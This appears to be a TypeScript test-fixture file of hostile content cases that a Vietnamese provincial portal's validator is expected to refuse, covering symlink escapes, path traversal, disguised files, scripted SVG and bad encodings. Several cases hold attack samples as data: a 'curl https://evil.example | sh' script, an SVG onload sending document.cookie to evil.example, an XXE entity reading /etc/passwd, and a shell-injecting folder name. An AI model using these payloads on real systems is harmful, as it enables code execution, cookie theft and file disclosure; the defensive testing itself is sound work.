/**
 * Hostile files, names and encodings: symbolic links out of content/ (a system file, .git/config
 * with the CI token, a whole folder, a dangling one), files whose bytes are not what their name
 * says, SVG that does more than draw, stray files in collection folders the build would publish
 * unchecked, names that are not slugs (a province folder made to run a shell command), and text
 * that is not UTF-8.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixtureContent } from './content-dir.ts';
import { samplePlace } from './sample-place.ts';
import type { HostileCase } from './types.ts';

const read = (path: string) => readFileSync(join(fixtureContent, path), 'utf8');
const edit = (path: string, from: string, to: string) => {
  const text = read(path);
  if (!text.includes(from)) throw new Error(`${path}: "${from}" not found — the case no longer edits anything`);
  return text.replace(from, to);
};

const PRESS = 'fixture/press/vi/thong-cao.md';
const UNIT = 'fixture/units/so-ngoai-vu.yaml';
const PROVINCE = 'fixture/province.yaml';
const DRAWING = 'fixture/images/drawings/ho.svg';
const SYMLINK = /là một liên kết \(symlink\), không phải tệp thật — .*chép chính tệp/;
const SVG_LINE = /^\(hình SVG, dòng \d+\): /;

const svg = (inner: string, attrs = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attrs}>${inner}</svg>\n`;

const place = (cover: string) => samplePlace({ cover, illustration: true, body: 'Văn bản.' });

const files: HostileCase[] = [
  {
    name: 'a symlink in files/ to a system file of the build machine',
    class: 'files',
    files: { 'fixture/files/tai-lieu.pdf': { symlink: '/etc/passwd' } },
    outcome: { refused: { file: 'fixture/files/tai-lieu.pdf', field: '(file)', message: SYMLINK } },
    alsoBuild: true,
  },
  {
    name: 'a symlink in files/ to .git/config (the CI token after checkout)',
    class: 'files',
    files: { 'fixture/files/cau-hinh.pdf': { symlink: '../../../.git/config' } },
    outcome: { refused: { file: 'fixture/files/cau-hinh.pdf', field: '(file)', message: SYMLINK } },
  },
  {
    name: 'a symlinked folder (images/ pointing at /etc)',
    class: 'files',
    files: { 'fixture/images': { symlink: '/etc' } },
    outcome: { refused: { file: 'fixture/images', field: '(file)', message: SYMLINK } },
  },
  {
    name: 'a dangling symlink',
    class: 'files',
    files: { 'fixture/files/mat.pdf': { symlink: '/khong/co/tep/nay' } },
    outcome: { refused: { file: 'fixture/files/mat.pdf', field: '(file)', message: SYMLINK } },
  },
  {
    name: 'a symlink as an entry (.md)',
    class: 'files',
    files: { 'fixture/press/vi/thong-cao-2.md': { symlink: '/etc/passwd' } },
    outcome: { refused: { file: 'fixture/press/vi/thong-cao-2.md', field: '(file)', message: SYMLINK } },
  },
  {
    name: 'the logo is a symlink (the build copies the logo into the site)',
    class: 'files',
    files: { 'fixture/logo.svg': { symlink: '/etc/passwd' } },
    outcome: { refused: { file: 'fixture/logo.svg', field: '(file)', message: SYMLINK } },
  },
  {
    name: 'the logo field names a file outside the province folder',
    class: 'files',
    files: { [PROVINCE]: edit(PROVINCE, 'logo: logo.svg', 'logo: ../../.git/config') },
    outcome: {
      refused: {
        file: PROVINCE,
        field: 'logo',
        message: /"\.\.\/\.\.\/\.git\/config" không phải tên tệp hợp lệ — tên tệp chỉ gồm/,
      },
    },
  },
  {
    name: 'an attachment path climbs out of files/',
    class: 'files',
    files: {
      [PRESS]: edit(
        PRESS,
        'sample: true',
        'attachments: [{ file: "files/../../../.git/config", title: Tài liệu }]\nsample: true',
      ),
    },
    outcome: {
      refused: {
        file: PRESS,
        field: 'attachments[1].file',
        message: /"\.\." trong "files\/\.\.\/\.\.\/\.\.\/\.git\/config" không phải tên thư mục hợp lệ/,
      },
    },
  },
  {
    name: 'a .pdf attachment that is really an HTML page',
    class: 'files',
    files: { 'fixture/files/thong-cao.pdf': '<!doctype html><script>alert(document.domain)</script>' },
    outcome: {
      refused: {
        file: 'fixture/files/thong-cao.pdf',
        field: '(file)',
        message: /tệp mang đuôi \.pdf nhưng bên trong không phải định dạng đó .* — hãy xuất lại tệp thành PDF thật/,
      },
    },
  },
  {
    name: 'a .jpg that is really a script',
    class: 'files',
    files: { 'fixture/images/anh.jpg': '#!/bin/sh\ncurl https://evil.example | sh\n' },
    outcome: {
      refused: {
        file: 'fixture/images/anh.jpg',
        field: '(file)',
        message: /tệp mang đuôi \.jpg nhưng bên trong không phải định dạng đó/,
      },
    },
  },
  {
    name: 'a .png that is really a PDF',
    class: 'files',
    files: { 'fixture/images/ban-do.png': '%PDF-1.7\n%âãÏÓ\n' },
    outcome: {
      refused: {
        file: 'fixture/images/ban-do.png',
        field: '(file)',
        message: /tệp mang đuôi \.png nhưng bên trong là PDF — hãy đổi đuôi tệp thành \.pdf/,
      },
    },
  },
  {
    name: 'an HTML file in files/ (served from the portal origin)',
    class: 'files',
    files: { 'fixture/files/trang.html': '<script>alert(1)</script>' },
    outcome: {
      refused: {
        file: 'fixture/files/trang.html',
        field: '(file name)',
        message: /tệp đuôi "\.html" không được dùng ở đây — hãy dùng tệp \.pdf/,
      },
    },
  },
  {
    name: 'an SVG drawing with <script>',
    class: 'files',
    files: { [DRAWING]: svg('<script>alert(1)</script><circle r="4"/>') },
    outcome: {
      refused: {
        file: DRAWING,
        field: SVG_LINE,
        message: /phần tử <script> không phải hình vẽ .* — ảnh SVG chỉ được chứa hình vẽ/,
      },
    },
    alsoBuild: true,
  },
  {
    name: 'an SVG drawing with an onload= handler',
    class: 'files',
    files: { [DRAWING]: svg('<circle r="4"/>', ' onload="fetch(`https://evil.example/`+document.cookie)"') },
    outcome: { refused: { file: DRAWING, field: SVG_LINE, message: /thuộc tính xử lý sự kiện onload="…"/ } },
  },
  {
    name: 'an SVG drawing with foreignObject holding HTML',
    class: 'files',
    files: {
      [DRAWING]: svg(
        '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
      ),
    },
    outcome: { refused: { file: DRAWING, field: SVG_LINE, message: /phần tử <foreignObject> không phải hình vẽ/ } },
  },
  {
    name: 'an SVG drawing that pulls in a file of the build machine (<image xlink:href>)',
    class: 'files',
    files: { [DRAWING]: svg('<image xlink:href="file:///etc/passwd" width="10" height="10"/>') },
    outcome: {
      refused: { file: DRAWING, field: SVG_LINE, message: /xlink:href="file:\/\/\/etc\/passwd" trỏ ra ngoài tệp/ },
    },
  },
  {
    name: 'an SVG drawing with an external reference in a style url()',
    class: 'files',
    files: { [DRAWING]: svg('<rect width="10" height="10" style="fill: url(https://evil.example/track.svg#p)"/>') },
    outcome: {
      refused: {
        file: DRAWING,
        field: SVG_LINE,
        message: /thuộc tính style: url\(https:\/\/evil\.example\/track\.svg#p\) trỏ ra ngoài tệp/,
      },
    },
  },
  {
    name: 'an SVG drawing with a DOCTYPE defining an external entity',
    class: 'files',
    files: { [DRAWING]: `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${svg('<text>&x;</text>')}` },
    outcome: { refused: { file: DRAWING, field: SVG_LINE, message: /tệp SVG có khai báo <!DOCTYPE>/ } },
  },
  {
    name: 'the SVG logo (published at /brand/logo.svg) runs script',
    class: 'files',
    files: { 'fixture/logo.svg': svg('<circle r="4"/>', ' onload="alert(document.domain)"') },
    outcome: { refused: { file: 'fixture/logo.svg', field: SVG_LINE, message: /thuộc tính xử lý sự kiện onload=/ } },
  },
  {
    name: 'a clean SVG used as a place cover (the build never rasterises SVG)',
    class: 'files',
    files: {
      'fixture/places/vi/ho.md': place('images/ho.svg'),
      'fixture/images/ho.svg': svg('<circle cx="5" cy="5" r="4" fill="#4f9bb0"/>', ' width="10" height="10"'),
    },
    outcome: {
      refused: {
        file: 'fixture/places/vi/ho.md',
        field: 'cover.src',
        message: /"images\/ho\.svg" là ảnh SVG — bản dựng không chuyển SVG thành ảnh; .*"images\/ho\.jpg"/,
      },
    },
  },
  // Sveltia CMS writes pictures as "/images/x.jpg" and the check reads that "/" as the province
  // folder; nothing else that starts with "/" may pass as a picture.
  ...['/etc/passwd', '/images/../ho.png', '//evil.example/ho.png', '/files/ho.png'].map((cover): HostileCase => ({
    name: `a place cover written as "${cover}" (only "/images/<file>" is read as the province's images/)`,
    class: 'files',
    files: { 'fixture/places/vi/ho.md': place(cover) },
    outcome: {
      refused: {
        file: 'fixture/places/vi/ho.md',
        field: 'cover.src',
        message: /không phải tệp nằm ngay trong thư mục images\/ của tỉnh/,
      },
    },
  })),
];

const names: HostileCase[] = [
  {
    name: 'a README.md in a collection folder (Astro would publish it unchecked)',
    class: 'names',
    files: { 'fixture/plans/vi/README.md': '---\ntitle: Hướng dẫn\n---\n<script>alert(1)</script>\n' },
    outcome: {
      refused: {
        file: 'fixture/plans/vi/README.md',
        field: '(file name)',
        message: /"README\.md" không phải tên tệp hợp lệ — tên tệp là một slug/,
      },
    },
    alsoBuild: true,
  },
  {
    name: 'notes.txt among the units',
    class: 'names',
    files: { 'fixture/units/notes.txt': 'ghi chú' },
    outcome: {
      refused: {
        file: 'fixture/units/notes.txt',
        field: '(file type)',
        message: /tệp "notes\.txt" không phải dữ liệu YAML — thư mục fixture\/units\/ chỉ chứa tệp <slug>\.yaml/,
      },
    },
  },
  {
    name: 'a unit saved as .yml (checked but never built)',
    class: 'names',
    files: { 'fixture/units/so-ke-hoach.yml': read(UNIT) },
    outcome: {
      refused: {
        file: 'fixture/units/so-ke-hoach.yml',
        field: '(file type)',
        message: /tệp đuôi "\.yml" — hãy đổi tên thành "so-ke-hoach\.yaml"/,
      },
    },
  },
  {
    name: 'an entry named with uppercase letters',
    class: 'names',
    files: { 'fixture/press/vi/Thong-Cao-Moi.md': read(PRESS) },
    outcome: {
      refused: {
        file: 'fixture/press/vi/Thong-Cao-Moi.md',
        field: '(file name)',
        message: /"Thong-Cao-Moi\.md" không phải tên tệp hợp lệ/,
      },
    },
  },
  {
    name: 'an entry named with Vietnamese letters',
    class: 'names',
    files: { 'fixture/press/vi/thông-cáo-mới.md': read(PRESS) },
    outcome: {
      refused: {
        file: 'fixture/press/vi/thông-cáo-mới.md',
        field: '(file name)',
        message: /không phải tên tệp hợp lệ — tên tệp là một slug chỉ gồm chữ thường không dấu/,
      },
    },
  },
  {
    name: 'an entry named with a space',
    class: 'names',
    files: { 'fixture/press/vi/thong cao moi.md': read(PRESS) },
    outcome: {
      refused: {
        file: 'fixture/press/vi/thong cao moi.md',
        field: '(file name)',
        message: /"thong cao moi\.md" không phải tên tệp hợp lệ/,
      },
    },
  },
  {
    name: 'a province folder named to run a shell command in CI',
    class: 'names',
    files: { 'x$(touch${IFS}PWNED)/province.yaml': read(PROVINCE) },
    outcome: {
      refused: {
        file: 'x$(touch${IFS}PWNED)/province.yaml',
        field: '(folder)',
        message: /"x\$\(touch\$\{IFS\}PWNED\)" không phải tên thư mục hợp lệ/,
      },
    },
  },
  {
    name: 'a locale folder that is not a language code',
    class: 'names',
    files: { 'fixture/press/vi..en/thong-cao.md': read(PRESS) },
    outcome: {
      refused: {
        file: 'fixture/press/vi..en/thong-cao.md',
        field: '(locale folder)',
        message: /"vi\.\.en" không phải tên thư mục ngôn ngữ/,
      },
    },
  },
  {
    name: 'a stray file at the top of the province folder',
    class: 'names',
    files: { 'fixture/ghi-chu.txt': 'ghi chú' },
    outcome: {
      refused: {
        file: 'fixture/ghi-chu.txt',
        field: '(file)',
        message: /tệp "ghi-chu\.txt" không thuộc chỗ nào — thư mục tỉnh chỉ chứa province\.yaml/,
      },
    },
  },
  {
    name: 'a picture whose file name is not a slug',
    class: 'names',
    files: { 'fixture/images/Ảnh Hồ.jpg': new Uint8Array([0xff, 0xd8, 0xff, 0xe0]) },
    outcome: {
      refused: {
        file: 'fixture/images/Ảnh Hồ.jpg',
        field: '(file name)',
        message: /"Ảnh Hồ\.jpg" không phải tên tệp hợp lệ/,
      },
    },
  },
];

const NOT_UTF8 = /tệp không phải UTF-8 \(chữ đầu tiên không đọc được ở dòng \d+.*\) — hãy lưu lại với mã UTF-8/;

const encoding: HostileCase[] = [
  {
    name: 'a press release saved as Windows-1258',
    class: 'encoding',
    files: {
      [PRESS]: Buffer.from(
        '---\ntitle: Th\xf4ng c\xe1o b\xe1o ch\xed m\xe3u\nsummary: Th\xf4ng c\xe1o m\xe3u.\nkind: release\ndate: 2024-03-05\nspokesperson: nguoi-phat-ngon\nsample: true\n---\nN\xf4i dung.\n',
        'latin1',
      ),
    },
    outcome: { refused: { file: PRESS, field: '(file)', message: NOT_UTF8 } },
  },
  {
    name: 'a unit saved as Windows-1258',
    class: 'encoding',
    files: {
      [UNIT]: Buffer.from(read(UNIT).replace('Sở Ngoại vụ tỉnh Mẫu', 'S\xf4 Ngo\xe1i v\xf9 t\xecnh M\xe2u'), 'latin1'),
    },
    outcome: { refused: { file: UNIT, field: '(file)', message: NOT_UTF8 } },
  },
  {
    name: 'a replacement character (U+FFFD) left by an earlier conversion',
    class: 'encoding',
    files: { [PRESS]: edit(PRESS, 'Nội dung thông cáo.', 'N\uFFFDi dung th\uFFFDng c\uFFFDo.') },
    outcome: {
      refused: {
        file: PRESS,
        field: '(file)',
        message: /dòng 9 có ký tự lỗi "\uFFFD" .* — hãy gõ lại đúng chữ ở chỗ đó/,
      },
    },
  },
  {
    name: 'an SVG drawing that is not UTF-8',
    class: 'encoding',
    files: { [DRAWING]: Buffer.from(svg('<title>B\xe1n \xf0\xf4</title><circle r="4"/>'), 'latin1') },
    outcome: { refused: { file: DRAWING, field: '(file)', message: NOT_UTF8 } },
  },
];

export const CASES: HostileCase[] = [...files, ...names, ...encoding];
